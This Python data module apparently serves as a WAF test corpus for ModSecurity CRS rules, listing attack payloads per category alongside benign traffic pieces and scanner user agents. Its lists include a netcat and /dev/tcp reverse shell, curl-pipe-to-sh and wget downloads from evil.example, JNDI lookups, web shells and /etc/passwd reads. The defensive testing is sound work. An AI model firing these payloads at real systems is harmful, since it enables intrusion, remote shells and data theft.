"""Attack payloads per CRS category, and the pieces benign traffic is built from.

Written for this project from the attack classes each CRS rule file targets (names and
comments of /usr/share/modsecurity-crs/rules/*.conf); no payload list was copied. Each list is
plain data: corpus.py places the payloads in every part of a request a rule family reads.
"""

SQLI = [
    "' or 1=1--", "1 union select null,table_name from information_schema.tables",
    "1' and sleep(5)#", "admin'--", "1; drop table users", "1 and extractvalue(1,concat(0x7e,version()))",
    "' or 'a'='a", "1/**/union/**/select/**/1,2", "1' waitfor delay '0:0:5'--",
    "benchmark(1000000,md5(1))", "1 or 1=1 limit 1", "select * from users where id=1",
    "' having 1=1--", "1 order by 10--", "1' and @@version>0--", "1' and (select count(*) from sysobjects)>0--",
    "concat(username,0x3a,password)", "1 and 1=convert(int,@@version)", "1;select pg_sleep(5)",
    "' or ''='", "1' or '1'='1' /*", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1 UNION ALL SELECT user,password FROM mysql.user#", "1' AND SUBSTRING(@@version,1,1)='5",
    "') or ('x'='x", "1 and ascii(substring((select database()),1,1))>64",
    "'; exec master..xp_cmdshell 'dir'--", "1 into outfile '/var/www/x.php'",
    "load_file('/etc/passwd')", "1' rlike (select (case when (1=1) then 1 else 0x28 end))--",
    "-1' union select 1,group_concat(schema_name) from information_schema.schemata--+",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "' or true--",
    "1' and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
    "\" or \"\"=\"", "1 xor 1", "admin' #", "1' and json_keys((select convert((select schema_name) using utf8)))--",
]

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>", "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<details open ontoggle=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<div style=\"width:expression(alert(1))\">", "<script src=//evil.example/x.js></script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "<input autofocus onfocus=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<embed src=javascript:alert(1)>", "<marquee onstart=alert(1)>", "'-alert(1)-'",
    "<isindex type=image src=1 onerror=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<video><source onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>", "vbscript:msgbox(1)", "<base href=javascript:/a/-alert(1)///////>",
    "<applet code=x>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>", "<table background=javascript:alert(1)>",
    "onmouseover=alert(1)", "<x onclick=alert(1)>click", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
]

LFI = [
    "../../../../etc/passwd", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/shadow", "c:\\windows\\win.ini", "..\\..\\..\\boot.ini", "/proc/self/environ",
    "../.htaccess", "/var/log/apache2/access.log", "../WEB-INF/web.xml", "%2e%2e%2f%2e%2e%2fetc/hosts",
    "..%c0%af..%c0%afetc/passwd", "/etc/passwd%00.jpg", "....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts",
    "file:///etc/passwd", "/.ssh/id_rsa", "../../../../../../../../../../etc/group", "/etc/mysql/my.cnf",
    "..;/..;/etc/passwd", "/usr/local/apache2/conf/httpd.conf", ".git/config", "/.env",
]

RFI = [
    "http://evil.example/shell.txt?", "https://192.0.2.10/x.php", "ftp://evil.example/x.txt",
    "http://evil.example/x.txt%00", "http://192.0.2.7/r57.txt??", "https://attacker.example/inc.php?cmd=id",
    "http://evil.example/?", "\\\\evil.example\\share\\x.php", "http://0x7f000001/shell",
    "https://evil.example:8443/a.txt#",
]

RCE = [
    "; cat /etc/passwd", "| id", "`id`", "$(whoami)", "&& ls -la /", "; wget http://evil.example/x -O /tmp/x",
    "; nc -e /bin/sh 192.0.2.1 4444", "powershell -enc SQBFAFgA", "cmd.exe /c dir c:\\",
    "; /bin/bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", "; curl http://evil.example/s.sh|sh",
    "() { :; }; echo vulnerable", "${IFS}cat${IFS}/etc/passwd", ";uname -a", "| net user",
    "; ping -c 10 127.0.0.1", "a;python -c 'import os;os.system(\"id\")'", "|| ps aux", "; chmod 777 /tmp/x",
    "$(echo dGVzdA==|base64 -d)", "; perl -e 'print 1'", "; rm -rf /tmp/x", "a|sh", "; echo $PATH",
    "; /usr/bin/id", "x=`cat /etc/issue`", "; tftp -i 192.0.2.1 GET x.exe", "; ruby -e 'exec \"ls\"'",
]

PHP = [
    "<?php system($_GET['c']); ?>", "phpinfo()", "base64_decode('c3lzdGVt')", "eval($_POST['x'])",
    "php://filter/convert.base64-encode/resource=index.php", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "file_get_contents('/etc/passwd')", "$_SERVER['HTTP_HOST']", "allow_url_include=1",
    "auto_prepend_file=php://input", "<?= `id` ?>", "assert($_REQUEST[a])", "preg_replace('/x/e','system(id)','x')",
    "call_user_func('system','id')", "php://input", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id", "zip://shell.jpg%23payload.php", "phar://upload.jpg/x", "$_COOKIE[x]",
    "create_function('','system(\"id\");')", "shell_exec('ls')", "passthru($x)", "a:2:{i:0;s:1:\"x\";i:1;O:4:\"Evil\":0:{}}",
    "highlight_file(__FILE__)", "include($_GET['f'])", "proc_open('id',$d,$p)",
]

NODEJS = [
    "require('child_process').exec('id')", "__proto__[isAdmin]=true", "{\"__proto__\":{\"admin\":true}}",
    "constructor.prototype.polluted=1", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')", "require(\"fs\").readFileSync(\"/etc/passwd\")",
    "this.constructor.constructor('return process')()", "new Function('return process')()",
    "global.process.exit()", "Object.prototype.x=1", "eval(String.fromCharCode(112,114,111))",
]

JAVA = [
    "${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHA=",
    "javax.naming.InitialContext", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "java.io.FileInputStream",
    "org.apache.commons.collections.functors.InvokerTransformer", "@java.lang.Runtime@getRuntime()",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "class.classLoader.URLs[0]=jar:http://x",
    "java.lang.ClassLoader", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${T(java.lang.System).getenv()}",
]

SESSION = [
    "PHPSESSID=abc123def456", "jsessionid=0123456789ABCDEF", "sessionid=attackerchosen",
    "<meta http-equiv=Set-Cookie content=\"sessionid=fixed\">", "document.cookie=\"ASPSESSIONID=fixed\"",
    "aspsessionid=ABCDEFGHIJ", "sid=1234567890abcdef",
]

SCANNER_UAS = [
    "sqlmap/1.5.2#stable (http://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Acunetix-WebVulnerability-Scanner",
    "w3af.org", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "DirBuster-1.0-RC1",
    "Morfeus Fucking Scanner", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "nuclei",
    "Mozilla/5.0 zgrab/0.x", "Arachni/v1.5.1", "ZmEu", "Havij", "gobuster/3.1.0", "OpenVAS",
    "python-requests/2.31.0", "curl/7.88.1", "Wget/1.21.3", "libwww-perl/6.67", "Go-http-client/1.1",
]

SCANNER_URLS = ["/nessus_is_probing_you_", "/w00tw00t.at.ISC.SANS.DFind:)", "/.well-known/acunetix", "/phpmyadmin/scripts/setup.php",
                "/admin/config.php.bak", "/backup.sql", "/db.sql.gz", "/index.php~", "/web.config.old", "/.DS_Store"]

# Response bodies that leak server internals (RESPONSE-95x): served as static pages.
LEAKS = {
    "sql-mysql.html": "<html><body>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1</body></html>",
    "sql-oracle.html": "<html><body>ORA-01756: quoted string not properly terminated</body></html>",
    "sql-mssql.html": "<html><body>Microsoft OLE DB Provider for SQL Server error '80040e14' Unclosed quotation mark after the character string</body></html>",
    "sql-pg.html": "<html><body>Warning: pg_query(): Query failed: ERROR:  syntax error at or near \"x\" LINE 1</body></html>",
    "java-trace.html": "<html><body>java.lang.NullPointerException\n\tat org.apache.jsp.index_jsp._jspService(index_jsp.java:58)\n\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:729)</body></html>",
    "php-error.html": "<html><body><b>Warning</b>:  include(config.php): failed to open stream: No such file or directory in <b>/var/www/html/index.php</b> on line <b>3</b></body></html>",
    "php-fatal.html": "<html><body><b>Fatal error</b>:  Uncaught Error: Call to undefined function foo() in /var/www/html/a.php:12</body></html>",
    "php-source.html": "<html><body><?php $db_password = 'secret'; mysql_connect('localhost','root',$db_password); ?></body></html>",
    "iis-error.html": "<html><body><h2>Server Error in '/' Application.</h2><b>Version Information:</b> Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4330.0</body></html>",
    "dir-listing.html": "<html><head><title>Index of /backup</title></head><body><h1>Index of /backup</h1><a href=\"db.sql\">db.sql</a></body></html>",
    "cf-error.html": "<html><body>Error Executing Database Query. [Macromedia][SQLServer JDBC Driver]</body></html>",
    "plain-ok.html": "<html><body><h1>Welcome</h1><p>Nothing to see here, all is well.</p></body></html>",
    "plain-article.txt": "An article about databases: SELECT statements, UNION of sets, and Java exceptions in general terms.",
}

FIRST_NAMES = ["Anna", "Bob", "Chloé", "Dmitri", "Émile", "Fatima", "Günther", "Hiroshi", "Ingrid", "José",
               "Kwame", "Liam", "María", "Nguyễn", "O'Brien", "Priya", "Quentin", "Rūta", "Søren", "Tomás",
               "D'Angelo", "Zoë", "Иван", "李雷", "محمد"]
WORDS = ["apple", "select", "union", "order", "from", "table", "drop", "script", "alert", "window", "update",
         "delete", "insert", "where", "group", "having", "between", "like", "null", "true", "false", "or",
         "and", "not", "the", "a", "of", "to", "in", "is", "it", "for", "on", "with", "as", "at", "by",
         "cat", "etc", "passwd", "java", "class", "process", "require", "system", "exec", "eval", "include",
         "document", "cookie", "image", "onload", "style", "body", "http", "www", "com", "email", "phone",
         "price", "quantity", "discount", "shipping", "address", "city", "country", "résumé", "naïve",
         "café", "über", "straße", "日本語", "中文", "русский", "العربية", "😀", "100%", "50/50", "C++",
         "R&D", "AT&T", "Q&A", "1+1=2", "x<y", "a>b", "#hashtag", "@mention", "$9.99", "~tilde"]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
]
CLIENT_UAS = ["curl/7.88.1", "python-requests/2.31.0", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
              "okhttp/4.12.0", "Go-http-client/2.0", "Microsoft .NET/8.0 HttpClient", "axios/1.6.2",
              "PostmanRuntime/7.36.0", "node-fetch/1.0"]
